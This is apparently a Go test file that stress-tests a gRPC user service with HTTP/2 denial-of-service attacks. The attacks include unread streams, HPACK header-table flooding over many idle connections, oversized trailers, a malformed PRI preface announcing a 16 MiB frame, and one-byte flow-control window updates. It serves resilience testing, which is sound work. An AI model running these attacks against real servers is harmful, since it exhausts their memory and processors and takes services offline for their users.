package main_test

import (
	"errors"
	"fmt"
	"io"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	userv1 "github.com/yourorg/userservice/gen/user/v1"
	"github.com/yourorg/userservice/gen/user/v1/userv1connect"
)

// frameAttacks hold memory or processors with single frames of HTTP/2.
func frameAttacks() []attack {
	return []attack{
		{name: "errors that are not read", short: true, run: func(a *attacker) error {
			// Each empty tag is a violation, so the trailers of each response are as long as they may be.
			bad := a.marshal(&userv1.CreateUserRequest{Username: "u", Tags: make([]string, 64)})
			return a.neverRead(4, streams{
				body: enveloped(0, bad), fields: a.post(userv1connect.UserServiceCreateUserProcedure, grpcProto),
			})
		}},
		{name: "rejections that are not read", permissions: []string{"users.read"}, run: func(a *attacker) error {
			a.Token = ""
			return a.neverRead(4, streams{fields: a.post(userv1connect.UserServiceGetUserProcedure, grpcProto)})
		}},
		{name: "idle connections with full header tables", run: func(a *attacker) error { return a.fullTables(9000, 1) }},
		{name: "idle connections of many addresses with full header tables", manyCallers: true, run: func(a *attacker) error {
			return a.fullTables(9900, 1000)
		}},
		{name: "health watches with large trailers", run: func(a *attacker) error {
			large := make([]byte, 14<<10)
			for i := range large {
				large[i] = 'h'
			}
			return a.hold(streams{
				conns: 10, each: 900, body: enveloped(0, nil), window: 1 << 16, open: true,
				fields:   a.post(healthWatchPath, grpcProto, "trailer", "x-large, y-large"),
				trailers: []hpack.HeaderField{{Name: "x-large", Value: string(large)}, {Name: "y-large", Value: string(large)}},
			})
		}},
		{name: "unread responses of small users", permissions: []string{"users.read"}, run: func(a *attacker) error {
			return a.hold(streams{
				conns: 40, each: 900, body: enveloped(0, a.marshal(&userv1.GetUserRequest{UserId: a.users[largeUsers]})),
				fields: a.post(userv1connect.UserServiceGetUserProcedure, grpcProto),
			})
		}},
		{name: "requests with the method PRI", run: func(a *attacker) error {
			// The header of a frame of 16 MiB follows where the preface would end.
			return a.repeat(200, func(i int) error {
				conn, err := a.dial(i)
				if err != nil {
					return err
				}
				defer func() { _ = conn.Close() }() // the attack ends
				if _, err := io.WriteString(conn, "PRI * HTTP/2.0\r\nHost: x\r\xff\xff\xff\xfe\x00\x00\x00\x00\x00"); err != nil {
					return err
				}
				_, err = io.Copy(io.Discard, conn)
				return err
			})
		}},
		{name: "windows of one byte", run: func(a *attacker) error {
			return a.repeat(9, func(int) error { return a.crumbs(900) })
		}},
	}
}

// neverRead makes calls on connections of which nothing is read.
func (a *attacker) neverRead(conns int, s streams) error {
	return a.repeat(conns, func(int) error {
		p, err := a.peer(0)
		if err != nil {
			return err
		}
		defer func() { _ = p.conn.Close() }() // the attack ends
		const burst = 50
		for id := uint32(1); a.ctx.Err() == nil; id += 2 {
			if err := p.call(id, s); err != nil {
				return err
			}
			if a.count("streams", 1); id%(2*burst) == 1 {
				a.pause(5 * time.Millisecond) // fewer streams than the limit are open
			}
		}
		return nil
	})
}

// fillTable fills the HPACK table of the server with entries that are as small as possible.
func (p *rawPeer) fillTable() (err error) {
	const requests, entries = 2, 60 // of a request, fewer than the limit of fields
	for i := range requests {
		block := []byte{0x82, 0x86, 0x84, 0x01, 0x09} // GET, http, /, :authority of 9 bytes
		block = append(block, "localhost"...)
		for j := range entries {
			n := i*entries + j
			block = append(block, 0x40, 0x02, 'a'+byte(n/26), 'a'+byte(n%26), 0x00)
		}
		err = errors.Join(err, p.WriteHeaders(http2.HeadersFrameParam{
			StreamID: uint32(2*i + 1), BlockFragment: block, EndHeaders: true, EndStream: true,
		}))
	}
	return err
}

// fullTables fills the table of each connection, and waits.
func (a *attacker) fullTables(conns, addresses int) error {
	return a.repeat(conns, func(i int) error {
		p, err := a.peer(i % addresses)
		if err != nil {
			return err
		}
		defer func() { _ = p.conn.Close() }() // the attack ends
		if err := p.fillTable(); err != nil {
			return err
		}
		_, err = io.Copy(io.Discard, p.conn)
		return err
	})
}

// crumbs opens streams that wait for the window of the connection, and opens it one byte at a time.
func (a *attacker) crumbs(each int) error {
	p, err := a.peer(0, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
	if err != nil {
		return err
	}
	defer func() { _ = p.conn.Close() }() // the attack ends
	gone := make(chan error, 1)
	go func() { gone <- a.drain(p, nil) }()
	s := streams{
		body:   enveloped(0, a.marshal(&userv1.StreamUserActivitiesRequest{})),
		fields: a.post(userv1connect.UserServiceStreamUserActivitiesProcedure, grpcProto),
	}
	for i := range each {
		if err := p.call(uint32(2*i+1), s); err != nil {
			return err
		}
	}
	a.count("streams", each)
	for a.ctx.Err() == nil {
		select {
		case err := <-gone:
			return fmt.Errorf("connection ended: %w", err)
		default:
		}
		p.writing.Lock()
		err := p.WriteWindowUpdate(0, 1)
		p.writing.Unlock()
		if err != nil {
			return err
		}
		a.count("window updates", 1)
		a.pause(time.Millisecond / 2)
	}
	return nil
}
